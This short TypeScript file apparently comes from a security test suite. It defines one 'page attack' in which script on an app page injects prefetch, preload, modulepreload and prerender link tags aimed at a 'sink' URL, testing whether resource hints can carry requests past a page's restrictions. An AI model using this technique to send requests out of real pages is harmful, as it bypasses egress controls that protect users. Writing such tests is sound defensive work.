import type { PageAttack } from "../attack.ts";

export const attack: PageAttack = {
  from: "app page",
  what: "pages fetched ahead",
  script: `
    for (const rel of ["prefetch", "preload", "modulepreload", "prerender"]) {
      const link = document.createElement("link");
      Object.assign(link, { rel, href: sink + "?" + rel, as: rel === "preload" ? "image" : "" });
      document.head.append(link);
    }
  `,
};
